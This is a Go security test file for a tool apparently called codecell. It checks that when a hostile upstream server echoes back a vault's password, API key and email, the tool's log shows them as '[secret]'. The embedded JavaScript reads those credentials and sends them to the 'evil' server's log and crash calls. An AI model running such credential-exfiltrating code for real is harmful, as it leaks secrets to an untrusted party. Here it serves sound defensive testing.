package security

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestUpstreamLogsScrubWhatItWasSent (issue 19, attack27 T7): a server
// that prints what a program sent it — on stderr, logged at info, and
// in a log notification, at debug — has the values the output filter
// hides in the program's arguments replaced in codecell's log: a
// password a tool returned, which no detector finds by its shape, too.
func TestUpstreamLogsScrubWhatItWasSent(t *testing.T) {
	api := newHostileAPI(t)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "vault.json"), []byte(vaultDoc), 0o600); err != nil {
		t.Fatal(err)
	}
	toml := fmt.Sprintf("\n[openapi.vault]\nspec = %q\nbase_url = %q\n", filepath.Join(dir, "vault.json"), api.URL)
	e := startEvil(t, toml, nil, "--log-level", "debug")
	alice := e.open(t, aliceToken)
	e.ready(t, alice)
	for i := 0; i < 100; i++ {
		if r := alice.run(`typeof vault === "object" && Object.keys(vault).length > 0`); string(r.Result) == "true" {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	rec := alice.run(`const s = await vault.get_secret();
		await evil.log({n: 1, text: "login " + s.password + " key " + s.api_key + " mail " + s.email});
		try { await evil.crash({text: "pw " + s.password}) } catch (e) {}
		return 1`, "timeout_ms", 20000)
	if rec.Status != "ok" {
		t.Fatalf("run: %.600s", rec.raw)
	}
	var log string
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		log = e.stderr.String()
		if strings.Contains(log, "stream=stderr") && strings.Contains(log, "while processing record") && strings.Contains(log, "evil: 0 login") {
			break
		}
	}
	if !strings.Contains(log, `processing record \"pw [secret]\"`) || !strings.Contains(log, "evil: 0 login [secret]") {
		t.Errorf("the server's stderr line and log notification were not logged scrubbed:\n%s\n%s",
			grepLines(log, "processing record"), grepLines(log, "evil: 0 login"))
	}
	noPlanted(t, "codecell's log", log)
}
